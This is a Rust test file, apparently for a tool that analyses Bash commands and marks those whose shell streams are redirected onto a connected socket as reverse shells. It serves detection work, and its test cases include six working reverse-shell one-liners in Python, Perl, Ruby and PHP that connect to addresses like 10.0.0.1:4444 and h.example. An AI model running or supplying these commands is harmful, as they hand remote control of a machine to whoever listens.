//! Code that puts its standard streams on a socket it connected: the commands it runs then
//! carry the `via` step [`STREAMS_ON_SOCKET`] (a shell there is a reverse shell); a client
//! that connects and talks, or a program whose streams stay its own, carries none.

use super::collect::STREAMS_ON_SOCKET;
use crate::effects::dispatch::shell_value as lens_value;
use crate::effects::{EffectKind, Effects, What};
use crate::shell_env::ShellEnv;

/// The programs a Bash command line runs whose route has [`STREAMS_ON_SOCKET`].
fn on_socket(line: &str) -> Vec<String> {
    let env = ShellEnv::new(Some("/home/u/p".into()), "/home/u");
    let mut fx = Effects::default();
    let line = serde_json::Value::String(line.to_string());
    lens_value("Bash", "", &line, Some("/home/u/p"), &env, &mut fx);
    fx.of(EffectKind::Run)
        .filter(|e| e.route.via.iter().any(|v| v == STREAMS_ON_SOCKET))
        .filter_map(|e| match &e.what {
            What::Run(c) => Some(c.program.clone()),
            _ => None,
        })
        .collect()
}

/// Python's os module ("File Descriptor Operations": `dup2`) and subprocess (`stdin=`),
/// perlfunc `open` (dup), Ruby's `IO#reopen`, PHP's `proc_open` and a shell's `<&3`.
#[test]
fn shells_on_a_connected_socket_carry_the_step() {
    let cases: &[(&str, &[&str])] = &[
        (
            r#"python3 -c 'import socket,os;s=socket.create_connection(("10.0.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.system("sh")'"#,
            &["sh"],
        ),
        (
            r#"python3 -c 'from os import dup2; import socket as so, subprocess as sp; s=so.socket(); s.connect(("h.example",443)); [dup2(s.fileno(),f) for f in (0,1,2)]; sp.call(["/bin/bash"])'"#,
            &["/bin/bash"],
        ),
        (
            r#"python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("10.1.1.1",9001));subprocess.Popen(["/bin/sh"],stdin=s,stdout=s,stderr=s)'"#,
            &["/bin/sh"],
        ),
        (
            r#"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh");'"#,
            &["/bin/sh"],
        ),
        (
            r#"ruby -rsocket -e 'c=TCPSocket.new("10.0.0.1",4444);$stdin.reopen(c);$stdout.reopen(c);exec "/bin/sh"'"#,
            &["/bin/sh"],
        ),
        (
            r#"php -r '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh <&3 >&3 2>&3");'"#,
            &["/bin/sh"],
        ),
        // Streams of its own, or no connection: no step.
        (
            r#"python3 -c 'import socket,os;s=socket.create_connection(("localhost",5432));s.sendall(b"x");os.system("make")'"#,
            &[],
        ),
        (
            r#"python3 -c 'import os,sys;os.dup2(sys.stdout.fileno(),2);os.system("make")'"#,
            &[],
        ),
        (
            r#"python3 -c 'import subprocess;subprocess.run(["sh","-c","ls"],stdin=subprocess.DEVNULL)'"#,
            &[],
        ),
        (
            r#"ruby -rsocket -e 'puts TCPSocket.new("localhost", 6379).gets; system("ls")'"#,
            &[],
        ),
    ];
    for (line, want) in cases {
        assert_eq!(on_socket(line), *want, "{line}");
    }
}
